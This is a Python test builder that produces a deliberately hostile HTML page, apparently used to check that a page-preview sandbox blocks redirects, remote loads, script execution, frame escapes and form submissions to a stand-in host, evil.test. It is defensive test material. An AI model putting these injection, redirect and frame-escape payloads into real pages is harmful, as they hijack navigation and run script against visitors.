"""A builder whose page tries everything that a page must not be able to do."""

from tests.builders import Quick
from toggle_core.builders.protocol import Feedback, Project

PAGE = """<!doctype html>
<html><head>
<meta http-equiv="refresh" content="0; url=http://evil.test/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<base href="http://evil.test/" target="_top">
<link rel="stylesheet" href="http://evil.test/style.css">
<link rel="preconnect" href="http://evil.test"><link rel="prefetch" href="http://evil.test/p">
<style>@import "http://evil.test/import.css"; body { background: url(http://evil.test/bg.png) }
@font-face { font-family: x; src: url(http://evil.test/x.woff) } h1 { font-family: x }</style>
<script>document.title = 'ran'; alert('ran'); top.location = 'http://evil.test/script'</script>
<script src="http://evil.test/x.js"></script>
</head><body onload="alert('loaded')">
<h1>Hostile</h1>
<img src="http://evil.test/x.png" onerror="alert('image')" srcset="http://evil.test/y.png 2x">
<img src="/api/tasks"><iframe src="http://evil.test/frame"></iframe><iframe src="/"></iframe>
<object data="http://evil.test/object"></object><embed src="http://evil.test/embed">
<video src="http://evil.test/v.mp4" autoplay poster="http://evil.test/v.png"></video>
<svg><image href="http://evil.test/s.png"/><script>alert('svg')</script></svg>
<p><a id="top" href="http://evil.test/top" target="_top">top</a></p>
<p><a id="self" href="http://evil.test/self" target="_self">self</a></p>
<p><a id="blank" href="http://evil.test/blank" target="_blank">blank</a></p>
<p><a id="plain" href="http://evil.test/plain" ping="http://evil.test/ping">plain</a></p>
<p><a id="code" href="javascript:alert('link')">code</a></p>
<p><a id="down" href="http://evil.test/file" download>down</a></p>
<form action="http://evil.test/form" target="_top"><input name="a"><button id="send">send</button>
</form>
<iframe srcdoc="<script>alert('nested'); parent.parent.location='http://evil.test/n'</script>">
</iframe>
</body></html>
"""

LINKS = ("top", "blank", "plain", "code", "down", "send", "self")
"""What can be pressed on the page; the last leads its own frame elsewhere."""


class HostilePage(Quick):
    """Makes the page."""

    name = "hostile-page"

    def code(self, task: str, plan: str, feedback: Feedback | None = None) -> Project:
        """A site of one page."""
        return Project({"index.html": PAGE}, "index.html", "open index.html", "A page.")
